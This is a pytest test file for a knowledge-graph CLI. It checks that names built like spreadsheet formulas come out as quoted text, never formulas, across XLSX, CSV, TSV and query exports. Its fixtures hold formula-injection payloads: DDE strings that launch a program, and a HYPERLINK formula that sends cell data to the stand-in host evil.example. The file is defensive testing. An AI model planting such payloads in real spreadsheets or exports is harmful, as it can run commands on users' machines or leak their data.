"""Spreadsheet formula injection (issue 15, item 2): actors, organisations and issues named like formulas
reach every tabular export as text, never as a formula. End to end through the CLI (Typer's CliRunner)."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from analysis.handmade import Said, article
from kg import extracts as extracts_io
from kg.cells import FORMULA_TRIGGERS
from kg.cli import app

runner = CliRunner()

CALC = "=cmd|' /C calc'!A0"
SUM = "+SUM(1,1)"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"details")'  # an issue label
NAMES = [CALC, SUM, AT, MINUS]
GOLD_TEXT = "=SUM(A1:A9) was the figure they cited."

SAID = [
    Said(CALC, "=Org|' /C calc'!A0", LINK, "support"),
    Said(SUM, "+Org", LINK, "oppose"),
    Said(AT, "@Org", LINK, "support"),
    Said(MINUS, "-Org", LINK, "oppose"),
    Said("Ken Marsh", "Federation", "police funding", "oppose"),
    Said(SUM, "+Org", "police funding", "support"),
    Said(CALC, "=Org|' /C calc'!A0", "police funding", "support", text=GOLD_TEXT),
]

NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture(scope="module")
def inj(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("injection-extracts")
    extracts_io.write(article("formulas", "2022-03-01", SAID), out)
    return out


def dangerous(cell: str) -> bool:
    """Would a spreadsheet read this CSV cell as a formula?"""
    return bool(cell) and (cell[0] in FORMULA_TRIGGERS or cell.lstrip()[:1] in FORMULA_TRIGGERS)


def check_rows(rows: list[list[str]], expect: list[str]) -> list[str]:
    """No cell would be a formula except plain numbers; each of ``expect`` is there, quoted. Returns every
    cell."""
    every = [c for row in rows for c in row]
    assert every
    bad = [c for c in every if dangerous(c) and not NUMBER.fullmatch(c)]
    assert not bad, bad
    for name in expect:
        assert any(c == "'" + name or c.startswith("'" + name) for c in every), (name, every)
    return every


def run(*args: str) -> None:
    r = runner.invoke(app, [str(a) for a in args])
    assert r.exit_code == 0, r.output


def read(path: Path, delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


def test_matrix_xlsx_has_no_formula_and_keeps_the_names(inj, tmp_path):
    from openpyxl import load_workbook

    run("matrix", inj, "--out", tmp_path / "m.xlsx")
    wb = load_workbook(tmp_path / "m.xlsx")
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                values.append(c.value)
    for name in NAMES + [LINK]:
        assert "'" + name in values, name
    net = wb["net"]
    header = [c.value for c in net[1]]
    row = next(r for r in net.iter_rows() if r[0].value == "'" + SUM)
    cell = row[header.index("'" + LINK)]
    assert cell.value == -1 and cell.data_type == "n"  # numbers stay numbers


@pytest.mark.parametrize("ext,value,delimiter", [(".csv", "net", ","), (".tsv", "net", "\t"),
                                                 (".csv", "all", ","), (".tsv", "share", "\t")])
def test_matrix_csv_tsv(inj, tmp_path, ext, value, delimiter):
    out = tmp_path / f"m{ext}"
    run("matrix", inj, "--out", out, "--value", value)
    rows = read(out, delimiter)
    check_rows(rows, NAMES + [LINK])
    assert any(r[0].startswith("'=") for r in rows)  # CSV rows start with '=
    if value == "net":
        row = next(r for r in rows if r[0] == "'" + MINUS)
        assert row[rows[0].index("'" + LINK)] == "-1"  # a number, not prefixed


def test_matrix_json_keeps_the_names_as_they_are(inj, tmp_path):
    run("matrix", inj, "--out", tmp_path / "m.json")
    data = json.loads((tmp_path / "m.json").read_text("utf-8"))
    assert set(NAMES) <= set(data["actors"]) and LINK in data["issues"]


@pytest.mark.parametrize("args", [
    ["--type", "twomode", "--aggregation", "subtract"],
    ["--type", "onemode", "--aggregation", "subtract", "--normalization", "average"],
    ["--type", "twomode", "--level", "organisation"],
])
def test_network_csv(inj, tmp_path, args):
    run("network", inj, *args, "--out", tmp_path / "n.csv")
    rows = read(tmp_path / "n.csv")
    orgs = "--level" in args
    check_rows(rows, ["=Org|' /C calc'!A0", "+Org", "@Org", "-Org"] if orgs else NAMES)
    if "average" in args:  # six decimals, negative ties stay numbers
        assert any(c.startswith("-0.") for r in rows[1:] for c in r[1:])


def test_network_csv_series(inj, tmp_path):
    run("network", inj, "--window", "30d", "--out", tmp_path / "w.csv")
    (path,) = tmp_path.glob("w-*.csv")
    check_rows(read(path), NAMES)


def test_conflict_edge_list(inj, tmp_path):
    run("network", inj, "--type", "conflict", "--out", tmp_path / "c.csv")
    rows = read(tmp_path / "c.csv")
    assert rows[0][:3] == ["source", "target", "relation"]
    check_rows(rows, [SUM, MINUS, LINK])


def test_polarisation_csv(inj, tmp_path):
    run("polarisation", inj, "--out", tmp_path / "p.csv")
    rows = read(tmp_path / "p.csv")
    every = check_rows(rows, [])
    clusters = rows[1][rows[0].index("clusters")]
    assert clusters.startswith("'" + SUM) and CALC + "=" in clusters, every


def test_eval_errors_csv(tmp_path):
    ex = article("formulas", "2022-03-01", SAID)
    ex.statements = ex.statements[:-1]  # the gold statement below is missed; the others are spurious
    extracts_io.write(ex, tmp_path / "extracts")
    gold = tmp_path / "gold"
    gold.mkdir()
    (gold / "formulas.json").write_text(json.dumps({"id": "formulas", "statements": [
        {"speaker": AT, "text": GOLD_TEXT, "kind": "indirect", "stance": "support"}]}), encoding="utf-8")
    run("eval", gold, tmp_path / "extracts", "--errors", tmp_path / "e.csv")
    rows = read(tmp_path / "e.csv")
    check_rows(rows, [AT, CALC, SUM, GOLD_TEXT])
    missed = next(r for r in rows if r[1].startswith("missed"))
    assert (missed[4], missed[-2]) == ("'" + AT, "'" + GOLD_TEXT)


def test_query_csv(inj, tmp_path):
    run("load", "oxigraph", inj, "--store", tmp_path / "store")
    r = runner.invoke(app, ["query", "sparql", "stance-matrix", "--store", str(tmp_path / "store"),
                            "--format", "csv"])
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(r.stdout.splitlines()))
    check_rows(rows, NAMES + [LINK])
    net = rows[0].index("net")
    assert "-1" in [row[net] for row in rows[1:]]


@pytest.mark.parametrize("value,expected", [
    (CALC, "'" + CALC), (SUM, "'" + SUM), ("Ken Marsh", "Ken Marsh"), (-1, "-1"), (-0.5, "-0.5"), (2.0, "2"),
    ([MINUS, "b"], "'" + MINUS + "; b"), (None, ""),
])
def test_query_csv_cells_as_cypher_and_sparql_share_them(value, expected):
    """``kg query cypher|sparql --format csv`` both write through kg.queries.format_result."""
    from kg.queries import QueryResult, format_result

    text = format_result(QueryResult(["v"], [{"v": value}]), "csv")
    assert list(csv.reader(text.splitlines())) == [["v"], [expected]]


def test_xlsx_cells_fit_excel(tmp_path):
    """An actor with 2500 statements on one issue: the long sheet's evidence cell would exceed the 32767
    characters Excel holds in a cell (Excel then calls the file corrupt); it is cut, with a note."""
    from openpyxl import load_workbook

    from kg.analysis.matrix import XLSX_CELL_LIMIT, stance_matrix, write_matrix

    ex = article("busy", "2022-03-01", [Said("Ken Marsh", None, "police funding", "oppose")] * 2500)
    m = stance_matrix([ex])
    evidence = " ".join(m.long_rows()[0]["evidence"])
    assert len(evidence) > XLSX_CELL_LIMIT
    wb = load_workbook(write_matrix(m, tmp_path / "m.xlsx"))
    cells = [c.value for row in wb["long"].iter_rows() for c in row if isinstance(c.value, str)]
    assert max(len(c) for c in cells) == XLSX_CELL_LIMIT
    cut = next(c for c in cells if len(c) == XLSX_CELL_LIMIT)
    assert evidence.startswith(cut[:1000]) and cut.endswith("the .csv and .json have all)")
    rows = read(write_matrix(m, tmp_path / "m.csv", value="all"))
    assert rows[1][-1] == evidence  # the CSV has it whole
